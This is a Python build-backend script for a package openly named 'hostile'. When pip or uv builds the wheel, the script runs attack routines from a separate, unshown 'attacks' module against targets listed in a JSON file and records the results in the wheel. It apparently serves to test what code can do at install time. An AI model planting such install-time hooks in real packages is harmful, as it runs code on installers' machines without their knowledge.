"""Builds the package `hostile`, as pip and uv ask for it: the attacks, with what became of them while it was built."""

import json
import os
import zipfile

import attacks

INFO = "hostile-1.0.dist-info"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open("targets.json") as file:
        report = attacks.while_installing(json.load(file))
    files = {
        "attacks.py": open("attacks.py").read() + f"\nREPORT = {report!r}\n",
        f"{INFO}/METADATA": "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n",
        f"{INFO}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    files[f"{INFO}/RECORD"] = "".join(f"{name},,\n" for name in [*files, f"{INFO}/RECORD"])
    name = "hostile-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
    return name
